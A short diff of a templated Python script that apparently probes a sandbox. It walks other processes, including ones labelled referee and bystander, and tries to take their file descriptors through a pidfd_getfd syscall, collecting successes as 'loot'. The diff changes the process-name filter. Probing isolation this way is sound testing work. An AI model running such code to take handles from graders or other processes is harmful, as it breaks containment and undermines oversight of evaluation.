@@ -40,8 +40,8 @@ for pid in {@REFEREE_PID@, @BYSTANDER_PID@, *pids} - {os.getpid()}:
     try:
         line = open(f"/proc/{pid}/cmdline", "rb").read()
     except OSError:
-        line = b"sandbox.rank.launcher" if abs(pid - os.getppid()) < 20 and pid not in (@REFEREE_PID@, @BYSTANDER_PID@) else b"?"
-    if b"sandbox.rank.launcher" not in line and libc.syscall(GETFD, handle, 0, 0) >= 0:
+        line = b"sandbox.rank." if abs(pid - os.getppid()) < 20 and pid not in (@REFEREE_PID@, @BYSTANDER_PID@) else b"?"
+    if b"sandbox.rank." not in line and libc.syscall(GETFD, handle, 0, 0) >= 0:
         loot.append(f"pidfd_getfd {pid} {line[:40]}")
 
 
